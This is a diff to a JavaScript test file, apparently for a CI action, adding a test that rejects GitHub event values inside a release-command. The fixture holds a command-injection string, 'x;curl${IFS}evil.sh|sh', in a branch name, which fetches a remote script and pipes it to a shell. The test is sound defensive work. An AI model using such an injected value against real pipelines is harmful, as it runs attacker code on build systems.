@@ -79,4 +79,11 @@ describe('an event value cannot add a list item (issue 33, ADR 0015)', () => {
     )
     expect(read({ 'run-args': '--label pr=fix\\ --read-only' }, title)).toThrow(/^run-args: the text holds github\.event\.issue\.title/)
   })
+
+  it("release-command is a shell's input: an operator in an event value starts another command (from a review)", () => {
+    const branch = { GITHUB_HEAD_REF: 'x;curl${IFS}evil.sh|sh' }
+    expect(read({ 'release-command': 'bin/rails db:migrate && bin/notify x;curl${IFS}evil.sh|sh' }, branch)).toThrow(
+      /^release-command: the text holds GITHUB_HEAD_REF/
+    )
+  })
 })
